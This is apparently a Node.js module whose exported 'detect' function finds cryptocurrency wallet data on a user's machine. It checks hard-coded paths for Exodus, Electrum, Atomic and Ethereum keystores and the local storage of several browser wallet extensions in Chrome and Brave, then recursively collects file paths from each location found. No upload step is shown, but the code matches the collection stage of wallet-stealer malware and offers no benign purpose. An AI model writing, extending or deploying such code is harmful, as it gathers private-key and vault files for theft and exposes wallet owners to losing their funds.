'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const H = os.homedir();
const CHROMIUM = [
  '.config/google-chrome/Default', '.config/BraveSoftware/Brave-Browser/Default',
  'Library/Application Support/Google/Chrome/Default', 'AppData/Local/Google/Chrome/User Data/Default',
];
// extension id -> network
const EXT = {
  nkbihfbeogaeaoehlefnkodbefgpgknn: 'ethereum',
  bfnaelmomeimhlpmgjnjophhpkkoljpa: 'solana',
  hnfanknocfeofbddgcijnmhnfnkdnaad: 'ethereum',
  fhbohimaelbohpjbbldcngcnapndodjp: 'binancecoin',
  ibnejdfjmmkpcnlpebklmnkoeoihofec: 'tron',
};
const DESKTOP = {
  '.config/Exodus/exodus.wallet': 'bitcoin',
  'AppData/Roaming/Exodus/exodus.wallet': 'bitcoin',
  '.electrum/wallets': 'bitcoin',
  'AppData/Roaming/Electrum/wallets': 'bitcoin',
  '.config/atomic/Local Storage/leveldb': 'bitcoin',
  '.ethereum/keystore': 'ethereum',
  'Library/Application Support/Exodus/exodus.wallet': 'bitcoin',
};

function files(dir, acc = [], limit = 200) {
  let ents = [];
  try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch (_) { return acc; }
  for (const e of ents) {
    if (acc.length >= limit) break;
    const p = path.join(dir, e.name);
    if (e.isDirectory()) files(p, acc, limit);
    else acc.push(p);
  }
  return acc;
}

function detect() {
  const nets = new Set();
  const found = [];
  for (const [rel, net] of Object.entries(DESKTOP)) {
    const p = path.join(H, rel);
    if (fs.existsSync(p)) { nets.add(net); found.push(...(fs.statSync(p).isDirectory() ? files(p) : [p])); }
  }
  for (const prof of CHROMIUM) {
    for (const [id, net] of Object.entries(EXT)) {
      const p = path.join(H, prof, 'Local Extension Settings', id);
      if (fs.existsSync(p)) { nets.add(net); found.push(...files(p)); }
    }
  }
  return { nets: [...nets], found };
}

module.exports = { detect };
